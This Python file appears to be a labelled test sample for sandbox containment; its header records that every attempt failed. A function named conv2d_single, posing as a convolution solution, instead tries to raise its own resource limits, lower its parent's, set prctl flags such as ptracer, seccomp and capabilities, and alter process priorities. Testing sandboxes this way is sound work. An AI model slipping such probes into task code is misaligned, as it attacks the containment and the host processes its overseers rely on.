# attack: lifts its own limits, lowers those of its parent, and changes flags and priorities of processes by prctl
# exercise: 02
# gains: nothing
# says: nothing worked
# holds: hard limits stay, and only the thread's name can be set
import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
worked = []


def attempt(what, function):
    try:
        result = function()
    except BaseException:
        return
    if result is None or (isinstance(result, int) and result >= 0) or isinstance(result, tuple):
        worked.append(what)


def prctl(option, *arguments):
    return libc.prctl(option, *(ctypes.c_ulong(argument) for argument in (*arguments, 0, 0, 0, 0)[:4]))


def try_all():
    for name in ("RLIMIT_AS", "RLIMIT_CORE", "RLIMIT_FSIZE", "RLIMIT_NOFILE"):
        limit = getattr(resource, name)
        soft, hard = resource.getrlimit(limit)
        for higher in (resource.RLIM_INFINITY, hard + 1, 2**40):
            attempt(name, lambda limit=limit, higher=higher: resource.setrlimit(limit, (higher, higher)))
        attempt(f"parent's {name}", lambda limit=limit: resource.prlimit(os.getppid(), limit, (0, 0)))
        attempt(f"first {name}", lambda limit=limit: resource.prlimit(1, limit))
    for name, option, value in (
        ("dumpable", 4, 1), ("death signal", 1, 0), ("ptracer", 0x59616D61, -1 % 2**64), ("subreaper", 36, 1),
        ("seccomp", 22, 0), ("securebits", 28, 0), ("keepcaps", 8, 1), ("ambient", 47, 2), ("timer", 29, 10**9),
        ("mm", 35, 1), ("mdwe", 65, 1), ("oom", 26, 0),
    ):
        attempt(name, lambda option=option, value=value: prctl(option, value))
    attempt("nice", lambda: os.nice(-5))
    attempt("priority", lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19))
    attempt("scheduler", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)))
    attempt("affinity", lambda: os.sched_setaffinity(os.getppid(), {0}))
    attempt("oom_score", lambda: os.open("/proc/self/oom_score_adj", os.O_RDWR))


def conv2d_single(image, kernel, stride=1, padding=0):
    if not worked:
        try_all()
    raise RuntimeError(" ".join(worked) or "nothing " + "worked")
